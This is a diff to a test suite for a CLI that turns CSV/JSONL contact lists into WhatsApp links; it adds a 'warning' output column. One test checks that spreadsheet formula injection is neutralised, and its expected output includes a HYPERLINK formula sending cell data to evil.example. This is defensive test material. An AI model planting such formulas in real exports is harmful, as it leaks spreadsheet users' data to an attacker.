@@ -83,6 +83,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/919876543210?text=Hi%20Asha%20from%20Pune%20(Asha%20Bakery)%20%5Bref%3Aspring%5D',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       {
         phone: '+44 7911 123456',
@@ -94,6 +95,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/447911123456?text=Custom%20for%20Bob%2C%20!%20%5Bref%3Aautumn%5D',
         waId: '447911123456',
         error: '',
+        warning: '',
       },
       {
         phone: '(650) 253-0000',
@@ -104,10 +106,11 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/16502530000?text=Hi%20Cara%20from%20SF%20(Asha%20Bakery)%20%5Bref%3Asummer%5D',
         waId: '16502530000',
         error: '',
+        warning: '',
       },
     ]);
     // the header line is exactly the input columns then url, waId, error
-    expect(r.stdout.split('\n')[0]).toBe('phone,name,text,campaign,city,url,waId,error');
+    expect(r.stdout.split('\n')[0]).toBe('phone,name,text,campaign,city,url,waId,error,warning');
     expect(summary(r.stderr)).toEqual({ rows: 3, failed: 0 });
     expect(rowLines(r.stderr)).toEqual([]);
   });
@@ -116,7 +119,7 @@ describe('wabox link --batch: CSV in', () => {
     const r = await run(['link', '--batch', '-', '--api'], { stdin: 'phone\n+919876543210\n' });
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(
-      'phone,url,waId,error\n+919876543210,https://api.whatsapp.com/send?phone=919876543210,919876543210,\n',
+      'phone,url,waId,error,warning\n+919876543210,https://api.whatsapp.com/send?phone=919876543210,919876543210,,\n',
     );
   });
 
@@ -137,6 +140,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/919876543210?text=Hi%2C%20you%0D%0Athere',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       {
         phone: '+919876543211',
@@ -145,6 +149,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/919876543211?text=plain',
         waId: '919876543211',
         error: '',
+        warning: '',
       },
     ]);
   });
@@ -202,6 +207,7 @@ describe('wabox link --batch: JSONL in', () => {
         url: 'https://wa.me/919876543210?text=Hi%20Asha',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       // a null column is an empty value, which is still a value: the fallback does not apply
       {
@@ -211,6 +217,7 @@ describe('wabox link --batch: JSONL in', () => {
         url: 'https://wa.me/919876543211?text=Hi%20',
         waId: '919876543211',
         error: '',
+        warning: '',
       },
       {
         phone: '+44 7911 123456',
@@ -219,6 +226,7 @@ describe('wabox link --batch: JSONL in', () => {
         url: 'https://wa.me/447911123456?text=Own%20text%20Bob',
         waId: '447911123456',
         error: '',
+        warning: '',
       },
     ]);
   });
@@ -259,7 +267,7 @@ describe('wabox link --batch: JSONL in', () => {
     expect(summary(r.stderr)).toEqual({ rows: 8, failed: 6 });
     // CSV out: the columns come from the first object even though line 1 was not one
     const rows = csv(r.stdout);
-    expect(Object.keys(rows[0]!)).toEqual(['phone', 'name', 'url', 'waId', 'error']);
+    expect(Object.keys(rows[0]!)).toEqual(['phone', 'name', 'url', 'waId', 'error', 'warning']);
     expect(rows.map((row) => [row.phone, row.waId, row.error])).toEqual([
       ['', '', 'not valid JSON'],
       ['+919876543210', '919876543210', ''],
@@ -310,6 +318,7 @@ describe('wabox link --batch: outputs', () => {
         url: 'https://wa.me/919876543210?text=Hi%20Asha',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       {
         phone: '+919876543211',
@@ -317,6 +326,7 @@ describe('wabox link --batch: outputs', () => {
         url: 'https://wa.me/919876543211?text=Hi%20B%2C%20b',
         waId: '919876543211',
         error: '',
+        warning: '',
       },
     ]);
     if (expected === 'jsonl') expect(text.split('\n').length).toBe(3);
@@ -325,7 +335,7 @@ describe('wabox link --batch: outputs', () => {
 
   it('writes the input columns for a header-only CSV', async () => {
     const csvOut = await run(['link', '--batch', '-'], { stdin: 'phone,name\n' });
-    expect(csvOut).toMatchObject({ code: 0, stdout: 'phone,name,url,waId,error\n' });
+    expect(csvOut).toMatchObject({ code: 0, stdout: 'phone,name,url,waId,error,warning\n' });
     const json = await run(['link', '--batch', '-', '--output-format', 'json'], { stdin: 'phone,name\n' });
     expect(json.stdout).toBe('[]\n');
   });
@@ -335,7 +345,7 @@ describe('wabox link --batch: outputs', () => {
     const output = file(dir, 'out.csv', 'old content '.repeat(10_000));
     await run(['link', '--batch', '-', '--output', output], { stdin: 'phone\n+919876543210\n' });
     expect(readFileSync(output, 'utf8')).toBe(
-      'phone,url,waId,error\n+919876543210,https://wa.me/919876543210,919876543210,\n',
+      'phone,url,waId,error,warning\n+919876543210,https://wa.me/919876543210,919876543210,,\n',
     );
   });
 });
@@ -1000,7 +1010,7 @@ describe('wabox link --batch: spreadsheet formulas in CSV output', () => {
     const r = await run(['link', '--batch', '-'], { stdin: INPUT });
     expect(r.code).toBe(1);
     const rows = parseCsv(r.stdout, { bom: true }) as string[][];
-    expect(rows[0]).toEqual(['phone', 'name', "'=cmd", 'url', 'waId', 'error']);
+    expect(rows[0]).toEqual(['phone', 'name', "'=cmd", 'url', 'waId', 'error', 'warning']);
     expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
       ['+919876543210', `'=HYPERLINK("http://evil.example/?d="&B3,"Click")`, "'@SUM(1)"],
       ["'=1+1", "'-2+3", "'\tx"],
@@ -1171,4 +1181,21 @@ describe('wabox link --batch: small things that must hold', () => {
       expect(readdirSync(qrDir)).toEqual([]);
     },
   );
+});
+
+describe('wabox link --batch: warnings in the output', () => {
+  it('puts a row’s warning in its warning column (CSV) and field (JSONL), and on stderr', async () => {
+    const stdin = 'phone\n+919876543210\n+447700900123\n';
+    const out = await run(['link', '--batch', '-'], { stdin });
+    expect(out.code).toBe(0);
+    const warning = '+447700900123 is in no assigned range (libphonenumber metadata): check it';
+    expect(csv(out.stdout).map((row) => [row.waId, row.warning])).toEqual([
+      ['919876543210', ''],
+      // a cell starting with + that is more than a number is neutralised like any other
+      ['447700900123', `'${warning}`],
+    ]);
+    expect(rowLines(out.stderr)).toEqual([`line 3: warning: ${warning}`]);
+    const json = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin });
+    expect(jsonl(json.stdout).map((row) => row.warning)).toEqual(['', warning]);
+  });
 });
